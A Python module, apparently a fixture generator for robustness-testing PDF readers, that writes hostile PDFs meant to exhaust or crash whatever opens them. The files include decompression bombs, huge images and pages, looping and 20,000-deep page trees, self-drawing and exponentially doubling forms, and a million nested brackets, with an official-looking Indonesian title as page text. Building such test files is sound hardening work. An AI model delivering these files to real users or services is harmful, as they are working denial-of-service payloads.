"""PDF files made to hurt whoever opens them; each writer takes the path."""

from __future__ import annotations

import zlib
from collections.abc import Sequence
from pathlib import Path

PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
TEXT = b"BT /F1 12 Tf 60 780 Td (Keputusan Kepala Dinas Sosial) Tj ET\n"


def pdf(path: Path, objects: Sequence[bytes]) -> None:
    """Write a PDF of objects numbered from 1; the first is the catalogue."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, table)
    path.write_bytes(bytes(out))


def stream(data: bytes, more: bytes = b"") -> bytes:
    """Return a stream object, its bytes as they are."""
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(data), more, data)


def squeezed(size: int, block: bytes, rounds: int = 1) -> bytes:
    """Return a stream object that inflates to `size` bytes of a block, through as many filters as `rounds`."""
    data = b""
    shrink = zlib.compressobj(9)
    piece = block * max(1, 1_000_000 // len(block))
    for _ in range(size // len(piece)):
        data += shrink.compress(piece)
    data += shrink.flush()
    for _ in range(rounds - 1):
        data = zlib.compress(data, 9)
    return stream(data, b"/Filter[" + b"/FlateDecode " * rounds + b"]")


def one_page(path: Path, contents: bytes, *more: bytes, page: bytes = PAGE) -> None:
    """Write a PDF of one page; further objects are numbered from 6."""
    pages = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
    pdf(path, [b"<</Type/Catalog/Pages 2 0 R>>", pages, page, contents, FONT, *more])


def inflating(path: Path) -> None:
    """A page whose contents inflate to a gigabyte of spaces."""
    one_page(path, squeezed(1_000_000_000, b" ", 2))


def inflating_picture(path: Path) -> None:
    """A page of a picture of ten billion points."""
    picture = squeezed(100_000_000, b"\0", 2).replace(
        b"/Filter", b"/Subtype/Image/Width 100000/Height 100000/BitsPerComponent 8/ColorSpace/DeviceGray/Filter", 1
    )
    page = PAGE.replace(b"/Font", b"/XObject<</X 6 0 R>>/Font")
    one_page(path, stream(b"q 595 0 0 842 0 0 cm /X Do Q"), picture, page=page)


def crowded(path: Path) -> None:
    """A hundred thousand pages that are one object."""
    kids = b"3 0 R " * 100_000
    pages = b"<</Type/Pages/Kids[" + kids + b"]/Count 100000>>"
    pdf(path, [b"<</Type/Catalog/Pages 2 0 R>>", pages, PAGE, stream(TEXT), FONT])


def claiming(path: Path) -> None:
    """One page in a tree that claims two billion."""
    pages = b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>"
    pdf(path, [b"<</Type/Catalog/Pages 2 0 R>>", pages, PAGE, stream(TEXT), FONT])


def looping(path: Path) -> None:
    """A tree of pages that holds itself."""
    pages = b"<</Type/Pages/Kids[2 0 R 3 0 R 2 0 R]/Count 9/Parent 2 0 R>>"
    pdf(path, [b"<</Type/Catalog/Pages 2 0 R>>", pages, PAGE, stream(TEXT), FONT])


def deep_tree(path: Path) -> None:
    """A tree of pages 20,000 levels deep."""
    levels = [b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (number + 1) for number in range(6, 20_006)]
    page = PAGE.replace(b"2 0 R", b"20005 0 R")
    pages = b"<</Type/Pages/Kids[6 0 R]/Count 1>>"
    pdf(path, [b"<</Type/Catalog/Pages 2 0 R>>", pages, b"null", stream(TEXT), FONT, *levels, page])


def gigantic(path: Path) -> None:
    """A page 100 kilometres wide and high, with a picture so that it has to be drawn."""
    page = PAGE.replace(b"[0 0 595 842]", b"[0 0 283000000 283000000]").replace(b"/Font", b"/XObject<</X 6 0 R>>/Font")
    picture = stream(bytes(100), b"/Subtype/Image/Width 10/Height 10/BitsPerComponent 8/ColorSpace/DeviceGray")
    one_page(path, stream(b"q 283000000 0 0 283000000 0 0 cm /X Do Q"), picture, page=page)


def thin(path: Path) -> None:
    """A page a millimetre high and ten kilometres wide."""
    page = PAGE.replace(b"[0 0 595 842]", b"[0 0 28300000 3]").replace(b"/Font", b"/XObject<</X 6 0 R>>/Font")
    picture = stream(bytes(100), b"/Subtype/Image/Width 10/Height 10/BitsPerComponent 8/ColorSpace/DeviceGray")
    one_page(path, stream(b"q 28300000 0 0 3 0 0 cm /X Do Q"), picture, page=page)


def doubling(path: Path) -> None:
    """Forms that each draw the next one twice, forty levels deep: a trillion words."""
    forms = []
    for number in range(6, 46):
        inner = b"/Resources<</XObject<</X %d 0 R>>/Font<</F1 5 0 R>>>>" % (number + 1)
        forms.append(stream(b"/X Do /X Do", b"/Subtype/Form/BBox[0 0 595 842]" + inner))
    forms.append(stream(TEXT, b"/Subtype/Form/BBox[0 0 595 842]/Resources<</Font<</F1 5 0 R>>>>"))
    one_page(path, stream(b"/X Do"), *forms, page=PAGE.replace(b"/Font", b"/XObject<</X 6 0 R>>/Font"))


def drawing_itself(path: Path) -> None:
    """A form that draws itself."""
    inner = b"/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</X 6 0 R>>>>"
    form = stream(b"/X Do " * 100, inner)
    one_page(path, stream(TEXT + b"/X Do"), form, page=PAGE.replace(b"/Font", b"/XObject<</X 6 0 R>>/Font"))


def busy(path: Path) -> None:
    """A page of four million lines."""
    one_page(path, squeezed(60_000_000, b"0 0 m 9 9 l S\n"))


def wordy(path: Path) -> None:
    """A page of a million words."""
    one_page(path, squeezed(30_000_000, TEXT.replace(b"60 780", b"1 -1")))


def deep_states(path: Path) -> None:
    """A page that saves its state ten million times, and brackets as deep."""
    one_page(path, squeezed(20_000_000, b"q "))


def deep_brackets(path: Path) -> None:
    """A catalogue of a million brackets in each other."""
    pages = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
    pdf(path, [b"<</Type/Catalog/Pages 2 0 R/X " + b"[" * 1_000_000 + b">>", pages, PAGE, stream(TEXT), FONT])
